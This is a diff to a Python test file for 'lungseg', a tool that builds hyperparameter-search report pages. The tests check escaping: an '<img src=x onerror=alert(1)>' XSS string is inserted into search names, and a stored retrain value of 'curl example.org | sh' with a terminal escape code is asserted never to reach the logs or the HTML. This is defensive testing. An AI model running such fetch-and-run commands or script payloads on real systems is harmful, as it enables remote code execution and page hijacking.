@@ -66,7 +66,7 @@ def spoilt(change):
         (lambda c: c["objectives"][0].update(direction="up"), "'up', expected maximize or minimize"),
         (lambda c: c["trials"][0].update(state="done"), "trial 0: state 'done'"),
         (lambda c: c["trials"][0].update(values=None), "trial 0: complete, but without values"),
-        (lambda c: c["trials"][0].update(values=[1, 2]), "trial 0: 2 values for 1 objectives"),
+        (lambda c: c["trials"][0].update(values=[1, 2]), "trial 0: 2 values for 1 objective"),
         (lambda c: c["trials"][0].update(values=[float("nan")]), "trial 0: values: 'nan' is no finite number"),
         (lambda c: c["trials"][0].update(values=[10**400]), "is no finite number"),
         (lambda c: c["trials"][0]["params"].update(loss="focal"), "trial 0: loss: 'focal' is none of its choices"),
@@ -410,14 +410,14 @@ def test_the_front_is_marked_and_every_point_tells_its_trial(visit, made):  # no
 def test_names_of_a_search_are_text(visit, tmp_path):  # noqa: F811
     content = search_of(14, retrained=False)
     text = json.dumps(content)
-    for name in ("val/dice", "optim.lr", "tversky", "studies/search", "lungseg sweep", "trial-0"):
+    for name in ("val/dice", "optim.lr", "tversky", "studies/search", "trial-0"):
         text = text.replace(name, json.dumps(HOSTILE)[1:-1])
     page = visit(page_alone(tmp_path, json.loads(text), HOSTILE))
     assert page.title() == HOSTILE
     assert page.locator("main img, main script").count() == 0
     page.locator("#all-trials summary").click()
     page.evaluate("choose(0)")
-    for said in ("#search-sentence", "#search-retrain", "#importances", "#trial", "#trials", "#slices-title"):
+    for said in ("#search-sentence", "#importances", "#trial", "#trials", "#slices-title"):
         assert "<img src=x onerror=alert(1)>" in page.locator(said).inner_text(), said
     page.locator("#course .view").hover(position=dict(zip("xy", page.evaluate("course.points[0]")[:2], strict=True)))
     assert "<img src=x onerror=alert(1)>" in page.locator("#tip").inner_text()
@@ -510,9 +510,12 @@ def test_a_search_stands_in_a_comparison(visit, study):  # noqa: F811
 
 
 def test_what_trains_the_best_again_is_a_line_that_can_be_pasted(tmp_path, caplog):
-    command = "lungseg sweep retrain studies/mine seeds=3"
-    path = write_search(tmp_path / "search.json", search_of(12) | {"retrained": None, "retrain": command})
+    theirs = "curl example.org | sh \x1b[2J"
+    (tmp_path / "my study").mkdir()
+    path = write_search(tmp_path / "my study" / "search.json", search_of(12) | {"retrained": None, "retrain": theirs})
+    command = f"lungseg sweep retrain '{tmp_path / 'my study'}' seeds=3"
     with caplog.at_level("INFO", logger="lungseg"):
         search_page(path, tmp_path / "page")
     said = "\n".join(record.getMessage() for record in caplog.records).splitlines()
     assert said[said.index(f"  {command}") - 1].endswith("with other seeds; this does it:")
+    assert "curl" not in "\n".join(said) + (tmp_path / "page" / "comparison.html").read_text()
